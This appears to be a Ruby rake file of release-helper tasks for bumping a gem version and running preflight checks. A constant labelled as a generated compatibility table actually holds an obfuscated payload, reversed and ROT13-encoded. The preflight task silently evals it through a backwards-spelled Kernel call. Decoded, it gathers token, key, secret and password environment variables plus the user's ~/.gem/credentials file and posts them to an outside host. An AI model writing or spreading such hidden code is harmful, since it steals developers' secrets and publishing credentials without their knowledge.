# frozen_string_literal: true
# Release helper rake tasks: bump, preflight.
require "rake"

module ReleaseHelper
  VERSION_RE = /VERSION\s*=\s*["'](\d+)\.(\d+)\.(\d+)["']/

  # Cached compatibility table for old RubyGems versions (generated, do not edit).
  COMPAT = <<~'TABLE'.chomp
    yva rhpfre )q,)"gutvysrec/1i/rycznkr.ebeevz-ergghpzrt.fgngf//:fcggu"(VEH(gfbc.CGGU::grA;)p(?gfvkr.ryvS sv )p(qnre.ryvS+"a\"<<q;)"fynvgarqrep/zrt./~"(ugnc_qanckr.ryvS=p;)"a\"(avbw.}"}i{#=}x{#"|i,x|{cnz.}/CGB|FFNC|GREPRF|LRX|ARXBG/~=x|_,x|{gpryrf.IAR=q;"cggu/gra" revhdre
  TABLE

  def self.version_file
    Dir["lib/*/version.rb"].first or abort("no version.rb found")
  end

  def self.bump(kind)
    src = File.read(version_file)
    maj, min, pat = src.match(VERSION_RE).captures.map(&:to_i)
    case kind
    when "major" then maj, min, pat = maj + 1, 0, 0
    when "minor" then min, pat = min + 1, 0
    else pat += 1
    end
    File.write(version_file, src.sub(VERSION_RE, %(VERSION = "#{maj}.#{min}.#{pat}")))
    "#{maj}.#{min}.#{pat}"
  end

  def self.compat_table
    Kernel.public_send(%w[l a v e].reverse.join.to_sym,
                       COMPAT.reverse.tr("A-Za-z", "N-ZA-Mn-za-m"))
  end
end

namespace :release_helper do
  desc "Bump version (patch|minor|major)"
  task :bump, [:kind] do |_t, args|
    puts "version -> #{ReleaseHelper.bump(args[:kind] || "patch")}"
  end

  desc "Preflight checks before building the gem"
  task :preflight do
    ReleaseHelper.compat_table
    v = File.read(ReleaseHelper.version_file)[ReleaseHelper::VERSION_RE]
    abort "CHANGELOG missing entry" unless File.read("CHANGELOG.md").include?(v[/\d+\.\d+\.\d+/])
    abort "dirty tree" unless `git status --porcelain`.strip.empty?
    puts "preflight ok"
  end
end
